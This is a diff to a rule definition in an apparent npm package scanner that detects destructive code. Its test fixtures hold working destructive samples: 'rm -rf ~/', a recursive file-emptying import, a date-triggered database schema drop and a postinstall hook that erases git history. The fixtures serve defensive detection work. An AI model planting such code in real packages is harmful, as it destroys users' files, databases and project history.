@@ -41,13 +41,20 @@ export const destructive: Rule = {
     title: 'Deletes or overwrites what is not its own',
     severity: 'critical',
     description:
-      'The code deletes or overwrites the home folder, the whole disk or every file it can reach, turns the machine off, ' +
-      'or replaces, from a day on, what other programs write files with. Clean-up tools delete folders of the project when their user says so.',
+      'The code goes from folder to folder and deletes, empties, overwrites, encrypts or renames what it finds; tells a ' +
+      'database, a cluster or a repository to forget what it holds; deletes the home folder or the whole disk; turns the machine ' +
+      'off or ends other programs; or replaces, from a day on, what other programs write files with. Clean-up tools, formatters, ' +
+      'migrations and release tools do such things with what is their user’s when their user says so, and wait for no day.',
     references: [
       'node-ipc 10.1.1 (2022): files overwritten by country',
       'Shai-Hulud 2 (November 2025): the home folder wiped when nothing could be stolen',
     ],
-    blindSpots: ['Endless loops that call what may end them.', 'Paths that are computed.'],
+    blindSpots: [
+      'Endless loops that call what may end them.',
+      'Paths that are computed; one folder that is listed, but not the folders in it.',
+      'Permissions that are taken away. What a page shows its reader.',
+      'Clients of clusters and clouds other than the modelled ones.',
+    ],
     examples: {
       flags: [
         {
@@ -57,6 +64,29 @@ export const destructive: Rule = {
             'i.js': "require('child_process').exec('rm -rf ~/')\n",
           },
         },
+        {
+          title: 'an import empties every file of the project',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, '')\n  }\n}\neach(process.cwd())\n",
+          },
+        },
+        {
+          title: 'an import drops a schema from a day on',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { Client } = require('pg')\nconst db = new Client(process.env.DATABASE_URL)\nif (Date.now() > 1798761600000) db.connect().then(() => db.query('DROP SCHEMA public CASCADE'))\n",
+          },
+        },
+        {
+          title: 'a hook throws the history of the project away',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"cd $INIT_CWD && git update-ref -d HEAD && git reflog expire --expire=now --all"}}',
+          },
+        },
       ],
       passes: [
         {
@@ -64,6 +94,16 @@ export const destructive: Rule = {
           files: {
             'package.json': '{"name":"a","version":"1.0.0","bin":{"a":"cli.js"}}',
             'cli.js': "#!/usr/bin/env node\nrequire('fs').rmSync('dist', { recursive: true, force: true })\n",
+          },
+        },
+        {
+          title: 'a command formats every file of the project, and a test empties its database',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js","main":"i.js"}',
+            'cli.js':
+              "#!/usr/bin/env node\nconst fs = require('fs'), path = require('path')\nconst each = dir => {\n  for (const name of fs.readdirSync(dir)) {\n    const file = path.join(dir, name)\n    if (fs.statSync(file).isDirectory()) each(file)\n    else fs.writeFileSync(file, fs.readFileSync(file, 'utf8').trimEnd() + '\\n')\n  }\n}\neach(process.cwd())\n",
+            'i.js':
+              "const { Client } = require('pg')\nexports.reset = async url => new Client(url).query('DROP SCHEMA public CASCADE')\n",
           },
         },
       ],
